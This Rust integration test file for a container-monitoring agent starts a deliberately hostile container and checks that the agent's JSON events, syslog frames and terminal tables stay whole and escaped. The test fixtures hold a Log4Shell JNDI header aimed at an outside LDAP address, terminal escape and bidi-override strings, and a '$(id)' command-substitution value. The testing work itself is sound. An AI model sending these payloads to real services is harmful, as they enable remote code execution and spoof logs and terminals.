//! Containers that choose labels, host names, paths and process names to break what they are told
//! in: event lines, syslog frames, terminals.

use std::{
    fs,
    io::Read as _,
    net::{TcpListener, UdpSocket},
    os::unix::net::UnixDatagram,
    process::Command,
    thread,
    time::Duration,
};

use anyhow::{Context as _, Result, ensure};
use hydrophone_tests::{Agent, Container, Engine, Event, Options, wait_for};
use serde_json::{Value, json};

/// What none of the outputs may show as it is: C0 and C1 controls, and what reorders text.
const DECEPTIVE: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\n\r\"}]\\ \u{9b}31m\u{202e}\u{7f}\t'`$(id)";
/// The same without white space, which Docker's client refuses in the key of a label.
const KEY: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\"}]\\\u{9b}31m\u{202e}\u{7f}'`$(id)";
/// As the kernel would have the name of a process that was started from the hostile path.
const COMM: &str = "busybox\u{1b}[2J\n\"\u{fffd}";
/// A UDP datagram's payload over IPv4.
const DATAGRAM_MAX: usize = 65_507;
const PATIENCE: Duration = Duration::from_secs(20);

/// Labels that are everything at once: deceptive, long, and what orchestrators write.
fn labels() -> Vec<String> {
    let long = DECEPTIVE.repeat(64 * 1_024 / DECEPTIVE.len());
    let mut labels = vec![
        format!("--label=tier={DECEPTIVE}"),
        format!("--label={KEY}=tier"),
        format!("--label=long={long}"),
        format!("--label={}=long", "k".repeat(64 * 1_024)),
        format!("--label=com.docker.compose.project={DECEPTIVE}"),
        format!("--label=com.docker.compose.service={long}"),
    ];
    for key in ["namespace", "name", "uid"] {
        labels.push(format!("--label=io.kubernetes.pod.{key}={DECEPTIVE}{key}"));
    }
    labels.push(format!("--label=com.amazonaws.ecs.task-arn={long}"));
    // Before all others in their order, and more than are kept.
    labels.extend((0..200).map(|n| format!("--label=!{n:03}{KEY}={DECEPTIVE}")));
    labels
}

/// Starts a container that has all of them.
fn hostile<'a>(engine: &'a Engine, name: &str) -> Result<Container<'a>> {
    let labels = labels();
    let mut options = vec!["--cap-add=SYS_ADMIN"];
    options.extend(labels.iter().map(String::as_str));
    let container = engine.run_idle(name, &options)?;
    let told = engine.docker(&["inspect", "--format", "{{json .Config.Labels}}", name])?;
    let told: Value = serde_json::from_str(&told.stdout)?;
    let kept = told.get("tier").and_then(Value::as_str);
    assert_eq!(kept, Some(DECEPTIVE), "Docker keeps labels as they are");
    container.exec(&["busybox", "hostname", DECEPTIVE])?;
    Ok(container)
}

/// Asks `web` from a program whose path and name are hostile too. Invalid UTF-8 ends the name.
fn attack(from: &Container<'_>, web: &Container<'_>) -> Result<()> {
    let script = r#"
path="$(printf '/tmp/busybox\033[2J\n"\377')"
cp /usr/bin/busybox "$path"
exec "$path" wget -q -O /dev/null --header 'X-Api-Version: ${jndi:ldap://198.18.0.9:1389/a}' "$1"
"#;
    let url = format!("http://{}/hostname", web.ipv4());
    from.exec(&["busybox", "sh", "-c", script, "sh", &url])?;
    Ok(())
}

fn is_plain(text: &str) -> bool {
    !text.chars().any(|character| {
        character.is_control() || matches!(character, '\u{202a}'..='\u{202e}' | '\u{feff}')
    })
}

/// An event is one JSON object on one line, short enough for a datagram.
fn check_event(line: &str) -> Result<Event> {
    ensure!(is_plain(line), "not plain: {line:?}");
    ensure!(line.len() < DATAGRAM_MAX - 200, "{} bytes", line.len());
    Event::parse(line).with_context(|| format!("no JSON object: {line}"))
}

fn check_identity(alert: &Event) -> Result<()> {
    let is = |pointer: &str, expected: &str| {
        let text = alert.text(pointer);
        ensure!(text == expected, "{pointer}: {text:?} in {alert}");
        Ok(())
    };
    is("/src_container/name", "mallory")?;
    is("/dst_container/name", "web")?;
    is("/src_process/comm", COMM)?;
    is("/src_container/compose/project", DECEPTIVE)?;
    is("/src_container/kubernetes/pod", &format!("{DECEPTIVE}name"))?;
    let shown = alert.at("/src_container/labels").as_object();
    let shown = shown.map_or(0, serde_json::Map::len) as u64;
    let omitted = alert.number("/src_container/labels_omitted");
    // 64 are kept of each container.
    ensure!(shown > 0 && shown + omitted == 64, "{shown}, {omitted}");
    Ok(())
}

/// The message of an RFC 5424 frame (section 6).
fn message_of(frame: &[u8]) -> Result<&str> {
    let frame = str::from_utf8(frame)?;
    let fields: Vec<&str> = frame.splitn(8, ' ').collect();
    let [
        priority,
        time,
        host,
        application,
        process,
        id,
        data,
        message,
    ] = fields[..]
    else {
        anyhow::bail!("too few fields: {frame:?}");
    };
    let number = priority
        .strip_prefix('<')
        .and_then(|rest| rest.strip_suffix(">1"));
    let number: u8 = number.context("no priority")?.parse()?;
    ensure!(number < 192, "priority {number}");
    ensure!(time.len() == "2026-11-23T20:23:10.123456Z".len() && time.ends_with('Z'));
    for field in [host, application, process, id] {
        let printable = field.bytes().all(|byte| byte.is_ascii_graphic());
        ensure!(!field.is_empty() && printable, "{field:?} in {frame:?}");
    }
    ensure!(application == "hydrophone" && data == "-", "{frame:?}");
    Ok(message)
}

/// Cuts a stream into its frames by their octet counts (RFC 6587 section 3.4.1).
fn frames(mut stream: &[u8]) -> Result<Vec<&[u8]>> {
    let mut frames = Vec::new();
    while !stream.is_empty() {
        let space = stream.iter().position(|byte| *byte == b' ');
        let (length, rest) = stream.split_at(space.context("no length")?);
        let length: usize = str::from_utf8(length)?.parse()?;
        let frame = rest.get(1..=length).context("a frame is cut")?;
        frames.push(frame);
        stream = rest.get(length + 1..).unwrap_or_default();
    }
    Ok(frames)
}

#[test]
fn events_and_syslog_frames_stay_whole() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let mallory = hostile(&engine, "mallory")?;
    let folder = tempfile::tempdir()?;
    let local = UnixDatagram::bind(folder.path().join("log"))?;
    let udp = UdpSocket::bind("127.0.0.1:0")?;
    let tcp = TcpListener::bind("127.0.0.1:0")?;
    let targets = [
        format!("unix://{}", folder.path().join("log").display()),
        format!("udp://{}", udp.local_addr()?),
        format!("tcp://{}", tcp.local_addr()?),
    ];
    let stream = thread::spawn(move || -> Result<Vec<u8>> {
        let mut stream = Vec::new();
        tcp.accept()?.0.read_to_end(&mut stream)?;
        Ok(stream)
    });
    let options = Options::new(&engine)
        .set("sinks", "syslog", json!({ "targets": targets }))
        .set("census", "cluster", "test")
        .set("events", "types", vec!["http", "flow"]);
    let agent = Agent::start(&options)?;
    attack(&mallory, &web)?;
    let alert = agent.wait_for("the attack", |event| event.is_between("mallory", "web"))?;
    check_identity(&alert)?;
    assert_eq!(alert.text("/cluster"), "test");
    agent.wait_for("the transaction", |event| {
        event.text("/event_type") == "http"
    })?;

    let told = |frame: &[u8]| check_event(message_of(frame)?);
    let is_alert = |event: &Event| event.is_between("mallory", "web");
    let mut buffer = vec![0; 1 << 20];
    for receive in [
        &(|buffer: &mut [u8]| local.recv(buffer)) as &dyn Fn(&mut [u8]) -> _,
        &|buffer: &mut [u8]| udp.recv(buffer),
    ] {
        while {
            let length: usize = receive(&mut buffer)?;
            let event = told(&buffer[..length])?;
            if is_alert(&event) {
                check_identity(&event)?;
            }
            !is_alert(&event)
        } {}
    }
    let lines = agent.lines();
    for line in &lines {
        check_event(line)?;
    }
    agent.stop()?;
    let stream = stream.join().ok().context("the receiver failed")??;
    let mut alerts = 0;
    for frame in frames(&stream)? {
        alerts += u32::from(is_alert(&told(frame)?));
    }
    assert_eq!(alerts, 1);
    Ok(())
}

#[test]
fn text_and_tables_are_safe_on_a_terminal() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let mallory = hostile(&engine, "mallory")?;
    let options = Options::new(&engine).set("alert", "format", "text");
    let agent = Agent::start(&options)?;
    attack(&mallory, &web)?;
    let line = agent.wait_for_line("the attack", |line| line.contains("Log4Shell"))?;
    assert!(
        line.contains("by busybox\\u{1b}[2J\\u{a}\"\u{fffd}["),
        "{line:?}"
    );
    assert!(line.contains("\\u{1b}]0;owned\\u{7}"), "{line:?}");
    for line in agent.lines() {
        ensure!(is_plain(&line), "{line:?}");
    }
    ensure!(is_plain(&agent.log().replace('\n', "")), "{}", agent.log());
    agent.stop()?;

    let folder = tempfile::tempdir()?;
    let config = folder.path().join("hydrophone.yaml");
    fs::write(&config, options.config.to_string())?;
    let shown = |arguments: &[&str]| -> Result<Vec<String>> {
        let output = Command::new(Agent::binary()?)
            .args(["containers", "--config"])
            .arg(&config)
            .args(arguments)
            .output()?;
        ensure!(output.status.success(), "{output:?}");
        let lines: Vec<String> = String::from_utf8(output.stdout)?
            .lines()
            .map(str::to_owned)
            .collect();
        for line in &lines {
            ensure!(is_plain(line), "{line:?}");
        }
        Ok(lines)
    };
    // Containers that are not of the test may be there too.
    let rows_of = |table: &[String], name: &str| {
        let name = format!("{name} ");
        table.iter().filter(|line| line.contains(&name)).count()
    };
    wait_for("both containers", PATIENCE, || {
        let table = shown(&[])?;
        let both = rows_of(&table, "mallory") == 1 && rows_of(&table, "web") == 1;
        Ok(both.then_some(()))
    })?;
    for by in ["service", "pod", "task", "namespace", "image"] {
        let table = shown(&["--by", by])?;
        let head = table.first().context("nothing is shown")?;
        ensure!(head.starts_with("GROUP"), "{by}: {table:#?}");
        ensure!(rows_of(&table, "mallory") == 1, "{by}: {table:#?}");
    }
    let only = shown(&["--by", "pod", "--format", "json", "--only"])
        .err()
        .context("a value is needed")?;
    assert!(only.to_string().contains("--only"), "{only}");
    let pod = format!("{DECEPTIVE}namespace/{DECEPTIVE}name");
    let rows = shown(&["--by", "pod", "--only", &pod, "--format", "json"])?;
    let row: Value = serde_json::from_str(rows.first().context("no row")?)?;
    assert_eq!((rows.len(), row["group"].as_str()), (1, Some(pod.as_str())));
    assert_eq!(row["name"], "mallory");
    Ok(())
}
